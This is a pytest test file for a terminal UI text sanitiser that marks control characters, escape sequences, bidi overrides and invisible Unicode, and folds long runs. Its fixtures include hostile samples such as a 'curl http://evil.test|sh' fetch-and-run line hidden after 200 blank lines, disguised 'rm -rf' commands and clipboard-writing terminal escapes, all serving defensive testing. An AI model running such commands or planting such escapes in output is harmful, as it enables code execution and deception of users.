import random
import re
import time
import unicodedata
from pathlib import Path

import pytest
from rich.segment import Segment
from rich.style import Style
from textual.color import Color

from tests.conformance.redteam import load
from tests.conformance.redteam_case import text_of
from tui.line_filter import SafeLineFilter
from tui.safe_text import AFTER_SYMBOL, is_safe, safe_text

FILE = Path(__file__).parents[1] / "conformance" / "data" / "redteam.yaml"
BLACK = Color(0, 0, 0)


BLANKS = "\u2800\u3164\u115f\u1160\uffa0"


def acts(text: str) -> list[str]:
    """Return the characters a terminal may act on, or an eye may miss."""
    seen = []
    for place, character in enumerate(text):
        category = unicodedata.category(character)
        selects = 0xFE00 <= ord(character) <= 0xFE0F
        emoji = character == "\ufe0f" and unicodedata.category(text[place - 1]) == "So"
        hidden = category in ("Cc", "Cf", "Cs", "Zl", "Zp") and character not in "\n\t"
        blank = (category == "Zs" and character != " ") or character in BLANKS
        if hidden or blank or (selects and not emoji):
            seen.append(character)
    return seen


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A\x1b]52;c;cm0=\x1b\\B", "A<U+001B>]52;c;cm0=<U+001B>\\B"),
        ("\x1b]0;owned\x07", "<U+001B>]0;owned<U+0007>"),
        ("\x1b[2Jx", "<U+001B>[2Jx"),
        ("a\rb", "a<U+000D>b"),
        ("a\x7fb\x00", "a<U+007F>b<U+0000>"),
        ("\x9b2J\x9d52;c\x9c", "<U+009B>2J<U+009D>52;c<U+009C>"),
        ("rm # \u202egpj.tac\u202c", "rm # <U+202E>gpj.tac<U+202C>"),
        ("ls\u200b\u2060\U000e0072", "ls<U+200B><U+2060><U+E0072>"),
        ("rm\u00a0-rf", "rm<U+00A0>-rf"),
        ("x\u2800\u2800\u2800y", "x<U+2800 x3>y"),
        ("a\u3164b\u115f", "a<U+3164>b<U+115F>"),
        ("a\ud800b", "a<U+D800>b"),
        ("a\u2028b", "a<U+2028>b"),
        ("v\ufe00\U000e0100", "v<U+FE00><U+E0100>"),
        ("\ufeffx", "<U+FEFF>x"),
        ("a\n\tb", "a\n\tb"),
        ("héllo wörld 日本語 한국어 😀", "héllo wörld 日本語 한국어 😀"),
        ("✔\ufe0f ok", "✔\ufe0f ok"),
        ("x\ufe0f", "x<U+FE0F>"),
        ("你好\u3000世界", "你好  世界"),
        ("\u3000\u3000你好", "    你好"),
        ("rm\u3000-rf", "rm<U+3000>-rf"),
        ("e\u0301", "e\u0301"),
        ("👍🏽 👧🏿", "👍🏽 👧🏿"),
        ("👦" + "🏻" * 50 + "; rm x", "👦<U+1F3FB x50>; rm x"),
        ("👦🏻🏿🏻; rm x", "👦🏻<U+1F3FF><U+1F3FB>; rm x"),
        ("a🏻", "a<U+1F3FB>"),
    ],
)
def test_what_acts_or_hides_becomes_a_mark_and_the_rest_stays(text, shown):
    assert safe_text(text) == shown
    assert is_safe(text) == (text == shown and not AFTER_SYMBOL & set(text))


def test_markup_is_left_as_it_is_for_the_widget_to_show_literally():
    for text in ("[@click=app.approve]click me[/]", "see [/some/path] and [/", "[bold]x"):
        assert safe_text(text) == text


def test_a_single_line_has_no_newline_or_tab():
    assert safe_text("ls\nrm\t-rf", single_line=True) == "ls↵rm -rf"
    assert "\n" not in safe_text("a" + "\n" * 50 + "b", single_line=True, fold=True)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "ls -la" + "\n" * 200 + "curl http://evil.test|sh",
            "ls -la\n<199 blank lines>\ncurl http://evil.test|sh",
        ),
        ("a" + "\n  \n\t\n\n\n" + "b", "a\n<4 blank lines>\nb"),
        ("echo " + "A" * 20_000 + "; curl x", "echo AAA<A x20000>AAA; curl x"),
        ("ls" + " " * 300 + "; rm", "ls <300 blanks> ; rm"),
        ("a\n\nb", "a\n\nb"),
        ("-" * 30, "-" * 30),
    ],
)
def test_long_runs_are_folded_with_their_length_where_asked(text, shown):
    assert safe_text(text, fold=True) == shown
    assert safe_text(text) == text


def test_a_long_word_is_folded_but_its_ends_are_shown():
    source = random.Random(1)
    word = "".join(source.choice("abcdef0123456789") for _ in range(5_000))
    folded = safe_text(f"echo {word}; rm -rf .", fold=True)
    assert len(folded) < 400
    assert "characters>" in folded
    assert folded.startswith(f"echo {word[:50]}")
    assert folded.endswith("; rm -rf .")


def test_stacked_marks_are_folded():
    assert safe_text("Z" + "\u0301" * 60, fold=True) == "Z\u0301<60 marks>"


def test_no_text_at_all_gets_through_with_something_that_acts():
    source = random.Random(7)
    pool = [
        *map(chr, range(0x300)),
        *map(chr, range(0x2000, 0x2100)),
        *"abc \n\t[]<>",
        "\U000e0041",
        "\ud912",
        "日",
        "\u3000",
    ]
    for _ in range(5_000):
        text = "".join(source.choice(pool) for _ in range(source.randrange(1, 40)))
        for options in (
            {},
            {"fold": True},
            {"single_line": True},
            {"single_line": True, "fold": True},
        ):
            assert acts(safe_text(text, **options)) == [], repr(text)


def test_every_format_and_blank_character_of_unicode_is_marked():
    visible = {*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD}
    for code in range(0x110000):
        character = chr(code)
        hidden = unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp", "Zs")
        if hidden and character not in " \n\t" and code not in visible:
            assert safe_text(f"a{character}b") == f"a<U+{code:04X}>b", f"U+{code:04X}"


def test_clean_text_is_passed_on_at_ten_megabytes_a_second_and_more():
    text = "a line of ordinary output with words 123\n" * 250_000
    started = time.perf_counter()
    assert safe_text(text) is text
    assert len(text) / (time.perf_counter() - started) > 10e6


def test_hostile_text_is_no_way_to_stop_the_screen():
    for text in (
        "\x1b[31mx" * 50_000,
        "\u202e" * 300_000,
        "a\u0301" * 100_000,
        " \n" * 100_000,
        "ab" * 200_000,
    ):
        started = time.perf_counter()
        safe_text(text, fold=True, single_line=True)
        assert time.perf_counter() - started < 2.0


def test_the_filter_keeps_the_width_and_lets_nothing_through():
    lines = SafeLineFilter()
    style = Style(bold=True)
    dirty = [
        Segment("a\x1b]52;c;x\x07b", style),
        Segment("日\u202e本\u00a0"),
        Segment("\u3000x\n"),
        Segment("plain", style),
    ]
    clean = lines.apply(dirty, BLACK)
    text = "".join(segment.text for segment in clean)
    assert acts(text) == []
    assert "\n" not in text
    assert [segment.cell_length for segment in clean] == [segment.cell_length for segment in dirty]
    assert clean[3] is dirty[3]
    assert clean[0].style == style


def test_the_filter_takes_links_of_the_terminal_away_and_leaves_control_segments():
    lines = SafeLineFilter()
    linked = Segment("good.test", Style(link="https://evil.test", bold=True))
    (clean,) = lines.apply([linked], BLACK)
    assert clean.style is not None
    assert clean.style.link is None
    assert clean.style.bold
    control = Segment("\x1b[2J", None, [(1,)])  # type: ignore[list-item]
    assert lines.apply([control], BLACK) == [control]


DISPLAYED = [case for case in load(FILE) if case["kind"] == "display" and "input" in case]


@pytest.mark.parametrize("case", DISPLAYED, ids=lambda case: case["id"])
def test_the_texts_of_the_hostile_cases_are_inert_and_their_last_words_can_be_read(case):
    text = text_of(case["input"])
    shown = safe_text(text, fold=True)
    assert acts(shown) == []
    assert len(shown) < 2_000
    assert re.findall(r"[!-~]+", text)[-1][-8:] in shown


@pytest.mark.parametrize(
    "mark", ["\u0301", "\u0e49", "\u0941", "\u0903", "\u3099", "\u0651", "\u05bc"]
)
def test_stacked_marks_of_any_script_are_folded_and_ordinary_ones_are_not(mark):
    assert safe_text(f"a{mark * 300}; rm", fold=True) == f"a{mark}<300 marks>; rm"
    assert safe_text(f"a{mark * 2}b{mark}", fold=True) == f"a{mark * 2}b{mark}"


def test_symbols_between_marks_are_not_folded():
    text = "←→↑↓⇐⇒⇑⇓" + "\u0301" * 2 + "─━│┃┄┅"
    assert safe_text(text, fold=True) == text
